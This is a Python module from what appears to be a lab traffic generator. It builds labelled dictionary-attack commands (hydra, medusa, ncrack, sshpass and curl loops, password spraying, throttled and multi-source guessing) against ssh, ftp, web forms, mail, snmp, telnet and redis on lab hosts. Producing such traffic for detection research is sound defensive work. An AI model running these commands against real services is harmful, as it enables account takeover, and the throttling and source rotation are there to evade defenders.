"""More modes of the dictionary attack, the class with the most faces: other services, paces, spreads and tools.

What they have in common is only that somebody asks for many passwords: fast or one every few seconds, one account or one
password for all, one server or several, one source or four.
"""

# ruff: noqa: E501 - a command stands on one line, as one types it

from __future__ import annotations

from training.lab.attacks import Field, Run, mode

LABEL = "Dictionary Attack"


def own(f: Field, kind: str, service: str, more: str) -> tuple[str, list[str]]:
    """A command of tools/guess.py against the file server, or the web server for basic authentication; and its victims."""
    host, number = (f.at("web"), f.web_port) if kind == "basic" else f.login(service)
    words = f"--users {f.users()} --passwords {f.passwords(200)}"
    return f"python3 -E {{here}}/tools/guess.py {kind} {host} {number} {words} {more}", [host]


def ssh_loop(f: Field, tries: int, more: str, pause: str, address: str = "") -> str:
    """sshpass in a shell loop over the passwords of a list."""
    host, number = f.login("ssh")
    options = f"-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 -o ConnectTimeout=5 {more}"
    return f"for p in $(cat {f.passwords(tries)}); do sshpass -p $p ssh {options} -p {number} {f.capture.user}@{address or host} true; {pause}; done"


@mode(LABEL, varied=True)
def dict_hydra_serial(f: Field) -> Run:
    v, number = f.login("ssh")
    return (
        "hydra ssh -c",
        f"hydra -I -L {f.users()} -P {f.passwords(60)} -c {f.rng.choice([1, 2])} -s {number} {v} ssh",
        [v],
        20,
    )


@mode(LABEL, varied=True)
def dict_hydra_crowd(f: Field) -> Run:
    v, number = f.login("ftp")
    return "hydra ftp -t 32", f"hydra -I -L {f.users()} -P {f.passwords(400)} -t 32 -s {number} {v} ftp", [v], 12


@mode(LABEL, needs=("forms",), varied=True)
def dict_hydra_form(f: Field) -> Run:
    v, number = f.login("forms")
    form = "/login:user=^USER^&password=^PASS^:Invalid"
    return (
        "hydra http-post-form",
        f"hydra -I -L {f.users()} -P {f.passwords(300)} -t {f.rng.choice([1, 4, 16])} -s {number} {v} http-post-form '{form}'",
        [v],
        14,
    )


@mode(LABEL, needs=("imap",), varied=True)
def dict_hydra_imap(f: Field) -> Run:
    v, number = f.login("imap")
    return "hydra imap", f"hydra -I -L {f.users()} -P {f.passwords(200)} -t {f.rng.choice([4, 12])} -s {number} {v} imap", [v], 16


@mode(LABEL, needs=("smtp",), varied=True)
def dict_hydra_smtp(f: Field) -> Run:
    v, number = f.login("smtp")
    return "hydra smtp", f"hydra -I -L {f.users()} -P {f.passwords(200)} -t {f.rng.choice([2, 8])} -s {number} {v} smtp", [v], 14


@mode(LABEL, varied=True)
def dict_hydra_snmp(f: Field) -> Run:
    v = f.at("infra")
    return "hydra snmp", f"hydra -I -P {f.passwords(250)} -t {f.rng.choice([4, 16])} {v} snmp", [v], 12


@mode(LABEL, varied=True)
def dict_hydra_hosts(f: Field) -> Run:
    """The same default passwords against every device's web page and the web server."""
    hosts = [*f.devices()[:6], f.at("web")]
    targets = f.list("hosts", hosts)
    return (
        "hydra -M http-get",
        f"hydra -I -l admin -P {f.passwords(60)} -t 2 -M {targets} -s {f.web_port} http-get /admin/",
        hosts,
        16,
    )


@mode(LABEL, needs=("pop3",), varied=True)
def dict_medusa_pop(f: Field) -> Run:
    v, number = f.login("pop3")
    return (
        "medusa pop3",
        f"medusa -h {v} -n {number} -U {f.users()} -P {f.passwords(120)} -t {f.rng.choice([1, 4, 8])} -M pop3",
        [v],
        16,
    )


@mode(LABEL, varied=True)
def dict_medusa_telnet(f: Field) -> Run:
    v, number = f.login("telnet")
    return (
        "medusa telnet",
        f"medusa -h {v} -n {number} -U {f.users()} -P {f.passwords(80)} -t {f.rng.choice([2, 6])} -M telnet",
        [v],
        16,
    )


@mode(LABEL, needs=("forms",), varied=True)
def dict_medusa_form(f: Field) -> Run:
    v, number = f.login("forms")
    form = '-m FORM:login -m DENY-SIGNAL:Invalid -m FORM-DATA:"post?user=&password="'
    return (
        "medusa web-form",
        f"medusa -h {v} -n {number} -u {f.capture.user} -P {f.passwords(200)} -t {f.rng.choice([1, 5])} -M web-form {form}",
        [v],
        14,
    )


@mode(LABEL, varied=True)
def dict_ncrack_telnet(f: Field) -> Run:
    v, number = f.login("telnet")
    return (
        "ncrack telnet",
        f"ncrack -T{f.rng.choice([3, 4])} --user admin,root,{f.capture.user} -P {f.passwords(80)} telnet://{v}:{number}",
        [v],
        16,
    )


@mode(LABEL, needs=("smtp",), varied=True)
def dict_medusa_smtp(f: Field) -> Run:
    v, number = f.login("smtp")
    return (
        "medusa smtp",
        f"medusa -h {v} -n {number} -U {f.users()} -P {f.passwords(120)} -t {f.rng.choice([1, 3, 8])} -M smtp -m AUTH:LOGIN",
        [v],
        14,
    )


@mode(LABEL, needs=("dropbear",), varied=True)
def dict_ncrack_slow(f: Field) -> Run:
    v, number = f.login("dropbear")
    return (
        "ncrack ssh, one connection",
        f"ncrack --user root,{f.capture.user} -P {f.passwords(60)} ssh://{v}:{number},CL=1,at=1,cd={f.rng.choice([1, 2, 3])}s",
        [v],
        24,
    )


@mode(LABEL, varied=True)
def dict_loop_ssh(f: Field) -> Run:
    return "sshpass loop", ssh_loop(f, 40, "", f"sleep {f.rng.choice([0, 1, 2, 3])}"), [f.at("files")], 20


@mode(LABEL, six=True, varied=True)
def dict_loop_six(f: Field) -> Run:
    v = f.at("files", True)
    return "sshpass loop, IPv6", ssh_loop(f, 40, "-6", f"sleep {f.rng.choice([0, 1])}", v), [v], 18


@mode(LABEL, varied=True)
def dict_loop_curl(f: Field) -> Run:
    url = f"{f.web()}/admin/index.html"
    return (
        "curl loop, basic",
        f"for p in $(cat {f.passwords(300)}); do curl -s -o /dev/null --max-time 5 -u {f.capture.user}:$p {url}; sleep 0.{f.rng.choice([0, 1, 5])}; done",
        [f.at("web")],
        16,
    )


@mode(LABEL, needs=("forms",), varied=True)
def dict_loop_form(f: Field) -> Run:
    v, number = f.login("forms")
    command = f"cat {f.passwords(300)} | xargs -P {f.rng.choice([1, 3, 8])} -I % curl -s -o /dev/null --max-time 6 -d 'user=admin&password=%' http://{v}:{number}/login"
    return "curl loop, form", command, [v], 14


@mode(LABEL, varied=True)
def dict_own_ftp(f: Field) -> Run:
    return (
        "guess.py ftp",
        *own(f, "ftp", "ftp", f"--parallel {f.rng.choice([1, 3])} --pause {f.rng.choice([0.2, 2])} --jitter 0.5 --seconds 16"),
        20,
    )


@mode(LABEL, needs=("imap",), varied=True)
def dict_own_spray(f: Field) -> Run:
    return (
        "guess.py imap, one password for all",
        *own(f, "imap", "imap", f"--spray --parallel {f.rng.choice([1, 4])} --pause {f.rng.choice([0.3, 1])}"),
        18,
    )


@mode(LABEL, needs=("smtp",), varied=True)
def dict_own_smtp(f: Field) -> Run:
    return (
        "guess.py smtp",
        *own(f, "smtp", "smtp", f"--parallel {f.rng.choice([1, 6])} --pause {f.rng.choice([0, 2.5])} --jitter 0.3"),
        18,
    )


@mode(LABEL, needs=("redis",), varied=True)
def dict_own_redis(f: Field) -> Run:
    return (
        "guess.py redis",
        *own(f, "redis", "redis", f"--parallel {f.rng.choice([1, 5])} --pause {f.rng.choice([0.05, 0.5, 2])} --jitter 0.3"),
        18,
    )


@mode(LABEL, varied=True)
def dict_own_telnet(f: Field) -> Run:
    return (
        "guess.py telnet",
        *own(f, "telnet", "telnet", f"--parallel {f.rng.choice([2, 5])} --pause {f.rng.choice([0.2, 1])}"),
        18,
    )


@mode(LABEL, needs=("forms",), varied=True)
def dict_own_form_many(f: Field) -> Run:
    """Four sources take turns at one form."""
    sources = ",".join(a for a in f.capture.host("att").plain() if ":" not in a)
    return (
        "guess.py form, many hosts",
        *own(f, "form", "forms", f"--sources {sources} --parallel {f.rng.choice([2, 4])} --pause {f.rng.choice([0.2, 1])}"),
        18,
    )


@mode(LABEL, varied=True)
def dict_own_basic(f: Field) -> Run:
    return (
        "guess.py basic",
        *own(f, "basic", "http", f"--parallel {f.rng.choice([1, 12])} --pause {f.rng.choice([0, 0.1, 2])} --jitter 0.4"),
        18,
    )
